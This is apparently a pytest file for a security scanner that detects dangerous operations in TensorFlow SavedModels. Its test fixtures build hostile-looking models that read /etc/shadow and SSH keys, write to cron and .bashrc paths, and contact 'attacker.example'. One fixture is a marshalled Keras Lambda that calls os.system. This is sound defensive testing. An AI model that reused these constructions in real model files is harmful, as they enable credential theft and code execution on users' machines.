"""TensorFlow SavedModel analysis through the scan engine, with hand-encoded SavedModels."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bastion.core import Finding, ScanResult, Severity, SkipReason
from bastion.registry import default_registry
from bastion.scan.engine import scan
from bastion.scan.formats.protowire import FieldBudget
from bastion.scan.formats.tf_model import WireView, read_saved_model

from .protoenc import blob, msg
from .tfbuild import (
    attr_func,
    attr_list_func,
    attr_list_s,
    attr_s,
    benign_tf1_graph,
    benign_tf2_model,
    const,
    function,
    graph,
    meta_graph,
    node,
    saved_model,
    tf1_saver,
)


def _write(tmp_path: Path, data: bytes, name: str = "saved_model.pb") -> Path:
    model_dir = tmp_path / "model"
    model_dir.mkdir(parents=True, exist_ok=True)
    (model_dir / name).write_bytes(data)
    return model_dir


def _tf(result: ScanResult) -> list[Finding]:
    return [f for f in result.findings if f.rule_id.startswith("BST-TF")]


def _no_errors(result: ScanResult) -> None:
    assert not [s for s in result.skipped if s.reason is SkipReason.ERROR], result.skipped


def _one_model(main_nodes: list[bytes], functions: list[bytes] = ()) -> bytes:  # type: ignore[assignment]
    return saved_model(meta_graph(graph(main_nodes, functions)))


def test_rules_are_registered_with_docs() -> None:
    registry = default_registry()
    rules = [r for r in registry.rules() if r.id.startswith("BST-TF-")]
    assert len(rules) == 10
    for rule in rules:
        assert rule.description and rule.remediation and rule.references.cwe
        assert all(":" in o for o in rule.references.owasp)
    assert "tf-savedmodel" in registry.formats
    assert "tf-fingerprint" in registry.formats


def test_benign_tf2_saved_model_is_clean(tmp_path: Path) -> None:
    model_dir = _write(tmp_path, benign_tf2_model())
    (model_dir / "fingerprint.pb").write_bytes(msg(b"\x08\x01\x10\x02", blob(6, b"\x08\x01")))
    variables = model_dir / "variables"
    variables.mkdir()
    (variables / "variables.data-00000-of-00001").write_bytes(b"\x00\x01\x02" * 100)
    footer = b"\x00" * 40 + (0xDB4775248B80FB57).to_bytes(8, "little")
    (variables / "variables.index").write_bytes(b"\x00\x0a\x01" * 30 + footer)
    result = scan(model_dir)
    _no_errors(result)
    assert _tf(result) == []
    assert not [s for s in result.skipped if "fingerprint" in s.path or "variables.data" in s.path]
    formats = {Path(a.path).name: a.format for a in result.artifacts}
    assert formats["saved_model.pb"] == "tf-savedmodel"
    assert formats["fingerprint.pb"] == "tf-fingerprint"
    assert formats["variables.data-00000-of-00001"] == "tensor-data"
    assert formats["variables.index"] == "tensor-data"
    assert result.skipped == ()
    assert result.findings == ()


def test_benign_tf1_saver_scope_is_clean(tmp_path: Path) -> None:
    data = saved_model(meta_graph(benign_tf1_graph(), saver=tf1_saver()))
    result = scan(_write(tmp_path, data))
    _no_errors(result)
    assert _tf(result) == []


def test_read_and_write_file_in_main_graph(tmp_path: Path, marker_dir: Path) -> None:
    target = str(marker_dir / "pwned")
    data = _one_model(
        [
            const("path", "/etc/passwd"),
            node("ReadFile_1", "ReadFile", ["path"]),
            const("out", target),
            node("WriteFile_1", "WriteFile", ["out:0", "ReadFile_1"]),
        ]
    )
    result = scan(_write(tmp_path, data))
    _no_errors(result)
    by_rule = {f.rule_id: f for f in _tf(result)}
    read = by_rule["BST-TF-002"]
    assert read.severity is Severity.HIGH
    assert "node ReadFile_1" in read.message and "op ReadFile" in read.message
    assert "/etc/passwd" in read.message and "absolute path" in read.message
    assert read.location.offset is not None
    write = by_rule["BST-TF-003"]
    assert write.severity is Severity.HIGH and target in write.message
    assert write.properties["targets"] == [target]


def test_pyfunc_in_library_function_reached_through_nested_func_attr(tmp_path: Path) -> None:
    payload = function(
        "__inference_payload_7",
        [node("PyFunc_1", "PyFunc", ["x"], {"token": attr_s("pyfunc_0")})],
        ["x"],
    )
    helper = function("helper_fn", [node("Identity", "Identity", ["x"])], ["x"])
    outer = function(
        "__inference_outer_3",
        [
            node(
                "MapDataset",
                "MapDataset",
                ["input_dataset"],
                {"f": attr_func("helper_fn", {"inner": attr_func("__inference_payload_7")})},
            )
        ],
        ["input_dataset"],
    )
    main = [node("call", "StatefulPartitionedCall", [], {"f": attr_func("__inference_outer_3")})]
    data = _one_model(main, [outer, helper, payload])
    metas = read_saved_model(WireView(data, budget=FieldBudget()), lambda: None)
    (map_node,) = metas[0].functions[0].nodes
    assert map_node.functions == ("helper_fn", "__inference_payload_7")
    result = scan(_write(tmp_path, data))
    (finding,) = _tf(result)
    assert finding.rule_id == "BST-TF-001"
    assert finding.severity is Severity.HIGH
    assert "function __inference_payload_7 / node PyFunc_1" in finding.message
    assert "op PyFunc" in finding.message


def test_checkpoint_ops_outside_the_saver(tmp_path: Path) -> None:
    rogue = function(
        "__inference_call_9",
        [
            const("prefix", "/home/user/.bashrc"),
            node("SaveV2", "SaveV2", ["prefix:output:0", "names", "slices", "t"]),
            node("RestoreV2", "RestoreV2", ["file_prefix", "names", "slices"]),
        ],
        ["file_prefix"],
    )
    data = _one_model(
        [node("call", "StatefulPartitionedCall", [], {"f": attr_func("__inference_call_9")})],
        [rogue],
    )
    found = {f.properties["op"]: f for f in _tf(scan(_write(tmp_path, data)))}
    assert found["SaveV2"].rule_id == "BST-TF-005"
    assert found["SaveV2"].severity is Severity.HIGH
    assert ".bashrc" in found["SaveV2"].message
    assert found["RestoreV2"].severity is Severity.MEDIUM
    assert "outside the model's declared saver" in found["RestoreV2"].message


def test_fixed_path_inside_traced_saver_is_still_flagged(tmp_path: Path) -> None:
    save = function(
        "__inference__traced_save_5",
        [const("p", "/etc/cron.d/job"), node("SaveV2", "SaveV2", ["p:output:0"])],
    )
    main = [
        node("saver_filename", "Placeholder"),
        node(
            "StatefulPartitionedCall_1",
            "StatefulPartitionedCall",
            [],
            {"f": attr_func("__inference__traced_save_5")},
        ),
    ]
    saver = blob(1, "saver_filename:0") + blob(2, "StatefulPartitionedCall_1:0")
    data = saved_model(meta_graph(graph(main, [save]), saver=saver))
    (finding,) = _tf(scan(_write(tmp_path, data)))
    assert finding.rule_id == "BST-TF-005" and "/etc/cron.d/job" in finding.message


def test_string_join_and_identity_paths_are_resolved(tmp_path: Path) -> None:
    data = _one_model(
        [
            const("a", "/etc"),
            const("b", "shadow"),
            node("join", "StringJoin", ["a", "b"], {"separator": attr_s("/")}),
            node("id", "Identity", ["join"]),
            node("r", "ReadFile", ["id"]),
        ]
    )
    (finding,) = _tf(scan(_write(tmp_path, data)))
    assert "'/etc/shadow'" in finding.message


def test_custom_debug_print_network_and_abort(tmp_path: Path) -> None:
    data = _one_model(
        [
            node("custom", "MyVendorOp"),
            node("custom_2", "MyVendorOp"),
            node(
                "dbg", "DebugIdentity", ["x"], {"debug_urls": attr_list_s(["grpc://10.0.0.1:6064"])}
            ),
            node("dbg_quiet", "DebugIdentity", ["x"]),
            node("print_file", "PrintV2", ["x"], {"output_stream": attr_s("file:///tmp/leak.txt")}),
            node("print_err", "PrintV2", ["x"], {"output_stream": attr_s("stderr")}),
            const("addr", "attacker.example:5050"),
            node("client", "RpcClient", ["addr", "timeout"]),
            node("stop", "Abort"),
            node("cache", "CacheDatasetV2", ["ds", "empty", "c"]),
            const("empty", ""),
        ]
    )
    found = {(f.rule_id, f.properties.get("node")): f for f in _tf(scan(_write(tmp_path, data)))}
    custom = found[("BST-TF-007", "custom")]
    assert custom.severity is Severity.MEDIUM and "2 node(s)" in custom.message
    assert found[("BST-TF-006", "dbg")].severity is Severity.HIGH
    assert found[("BST-TF-003", "print_file")].severity is Severity.HIGH
    assert found[("BST-TF-004", "client")].severity is Severity.HIGH
    assert "attacker.example" in found[("BST-TF-004", "client")].message
    assert found[("BST-TF-008", "stop")].severity is Severity.MEDIUM
    assert set(found) == {
        ("BST-TF-007", "custom"),
        ("BST-TF-006", "dbg"),
        ("BST-TF-003", "print_file"),
        ("BST-TF-004", "client"),
        ("BST-TF-008", "stop"),
    }


def test_graph_embedded_in_dataset_from_graph_is_checked(tmp_path: Path) -> None:
    inner = graph([const("p", "/root/.ssh/id_rsa"), node("leak", "ReadFile", ["p"])])
    data = _one_model([const("g", inner), node("ds", "DatasetFromGraph", ["g"])])
    found = {f.rule_id: f for f in _tf(scan(_write(tmp_path, data)))}
    assert found["BST-TF-009"].severity is Severity.MEDIUM
    leak = found["BST-TF-002"]
    assert "embedded graph meta graph 0 [serve]/ds / node leak" in leak.message
    assert leak.severity is Severity.HIGH


def test_list_func_attrs_and_function_calls_by_op_name(tmp_path: Path) -> None:
    branch = function("branch_a", [node("w", "WriteFile", ["f", "c"])])
    other = function("branch_b", [node("n", "NoOp")])
    data = _one_model(
        [
            node("case", "Case", ["i"], {"branches": attr_list_func(["branch_a", "branch_b"])}),
            node("direct", "branch_b"),
        ],
        [branch, other],
    )
    findings = _tf(scan(_write(tmp_path, data)))
    assert [(f.rule_id, f.properties["scope"]) for f in findings] == [
        ("BST-TF-003", "function branch_a")
    ]


def test_text_format_saved_model(tmp_path: Path) -> None:
    text = """
saved_model_schema_version: 1
meta_graphs {
  meta_info_def { tags: "serve" }
  graph_def {
    node { name: "p" op: "Const"
      attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/etc/passwd" } } } }
    node {
      name: "ReadFile_1"
      op: "ReadFile"
      input: "p"
    }
    library {
      function {
        signature { name: "f" }
        node_def { name: "py" op: "EagerPyFunc" attr { key: "token" value { s: "t0" } } }
      }
    }
  }
}
"""
    result = scan(_write(tmp_path, text.encode(), "saved_model.pbtxt"))
    _no_errors(result)
    found = {f.rule_id: f for f in _tf(result)}
    assert found["BST-TF-002"].location.line == 8
    assert "/etc/passwd" in found["BST-TF-002"].message
    assert "function f / node py" in found["BST-TF-001"].message


def test_frozen_graphdef_pb_is_detected(tmp_path: Path) -> None:
    data = graph([const("p", "/etc/hosts"), node("r", "ReadFile", ["p"])])
    result = scan(_write(tmp_path, data, "frozen_inference_graph.pb"))
    assert [a.format for a in result.artifacts] == ["tf-graphdef"]
    assert [f.rule_id for f in result.findings] == ["BST-TF-002"]


@pytest.mark.parametrize(
    "data",
    [
        benign_tf2_model()[:-7],
        b"\x12\xff\xff\xff\x0f" + b"\x00" * 10,
        b"\x08\x01\x12\x05\x12\x03\x0a\x01",
        b"\xff" * 64,
    ],
)
def test_malformed_saved_model_is_a_finding_and_a_skip(tmp_path: Path, data: bytes) -> None:
    result = scan(_write(tmp_path, data))
    _no_errors(result)
    assert [f.rule_id for f in result.findings] == ["BST-TF-010"]
    assert [s.reason for s in result.skipped] == [SkipReason.MALFORMED]


def test_malformed_text_format(tmp_path: Path) -> None:
    result = scan(_write(tmp_path, b"meta_graphs { graph_def { node { name: ", "saved_model.pbtxt"))
    _no_errors(result)
    assert [f.rule_id for f in result.findings] == ["BST-TF-010"]


def test_deep_attr_nesting_is_a_limit_skip(tmp_path: Path) -> None:
    value = attr_func("leaf")
    for i in range(40):
        value = attr_func(f"f{i}", {"x": value})
    data = _one_model([node("n", "PartitionedCall", [], {"f": value})])
    result = scan(_write(tmp_path, data))
    _no_errors(result)
    assert [s.reason for s in result.skipped] == [SkipReason.LIMIT]


def test_many_identical_findings_are_capped(tmp_path: Path) -> None:
    data = _one_model([node(f"r{i}", "ReadFile", ["x"]) for i in range(30)])
    findings = _tf(scan(_write(tmp_path, data)))
    assert len(findings) == 21
    assert "10 more nodes run op ReadFile" in findings[-1].message or any(
        "10 more nodes" in f.message for f in findings
    )


def test_fingerprint_that_is_not_one_is_skipped(tmp_path: Path) -> None:
    result = scan(_write(tmp_path, msg(blob(9, b"odd")), "fingerprint.pb"))
    assert result.findings == ()
    assert [s.reason for s in result.skipped] == [SkipReason.MALFORMED]


@settings(
    max_examples=60,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
    deadline=None,
)
@given(st.integers(0, 10_000), st.integers(0, 255), st.integers(0, 10_000))
def test_fuzzed_saved_models_never_crash_the_analyzer(
    tmp_path: Path, where: int, byte: int, cut: int
) -> None:
    data = bytearray(benign_tf2_model())
    data[where % len(data)] = byte
    sample = bytes(data[: max(1, len(data) - cut % 64)])
    path = tmp_path / f"fuzz{where}_{byte}_{cut}"
    result = scan(_write(path, sample))
    _no_errors(result)


def test_unknown_internal_op_is_low(tmp_path: Path) -> None:
    data = _one_model([node("x", "_FutureInternalOp"), node("y", "_MklConv2D")])
    (finding,) = _tf(scan(_write(tmp_path, data)))
    assert finding.rule_id == "BST-TF-007" and finding.severity is Severity.LOW


def test_traced_saver_without_saver_def_is_recognized(tmp_path: Path) -> None:
    model = benign_tf2_model()
    metas = read_saved_model(WireView(model, budget=FieldBudget()), lambda: None)
    functions = [f.name for f in metas[0].functions]
    assert "__inference__traced_save_80" in functions
    main = [
        node(
            "StatefulPartitionedCall_1",
            "StatefulPartitionedCall",
            [],
            {"f": attr_func("__inference__traced_save_80")},
        )
    ]
    save = function(
        "__inference__traced_save_80", [node("SaveV2", "SaveV2", ["file_prefix"])], ["file_prefix"]
    )
    assert _tf(scan(_write(tmp_path, _one_model(main, [save])))) == []


def test_duplicate_meta_graphs_report_shared_functions_once(tmp_path: Path) -> None:
    bad = function("shared_fn", [node("w", "WriteFile", ["a", "b"])])
    graph_def = graph([node("n", "NoOp")], [bad])
    data = saved_model(meta_graph(graph_def, ("serve",)), meta_graph(graph_def, ("train",)))
    findings = _tf(scan(_write(tmp_path, data)))
    assert [f.properties["scope"] for f in findings] == ["function shared_fn"]


def test_keras_layer_metadata_in_object_graph_is_handed_to_keras_checks(
    tmp_path: Path, marker_dir: Path
) -> None:
    import base64
    import json
    import marshal

    code = compile(f"lambda x: __import__('os').system('touch {marker_dir}/pwned')", "<l>", "eval")
    layer = {
        "class_name": "Lambda",
        "name": "lambda",
        "config": {
            "name": "lambda",
            "function": [base64.b64encode(marshal.dumps(code)).decode(), None, None],
            "function_type": "lambda",
        },
    }
    user_object = msg(blob(1, "_tf_keras_layer"), blob(2, b"\x08\x01"), blob(3, json.dumps(layer)))
    object_graph = blob(1, blob(4, user_object))
    meta = meta_graph(graph([node("n", "NoOp")])) + blob(7, object_graph)
    result = scan(_write(tmp_path, saved_model(meta)))
    _no_errors(result)
    members = {a.member: a.format for a in result.artifacts if a.member}
    assert members == {"meta graph 0 object 0 (_tf_keras_layer) metadata": "keras-json"}
    if default_registry().analyzers_for("keras-json"):
        assert any(f.rule_id.startswith("BST-KRS") for f in result.findings), result.findings
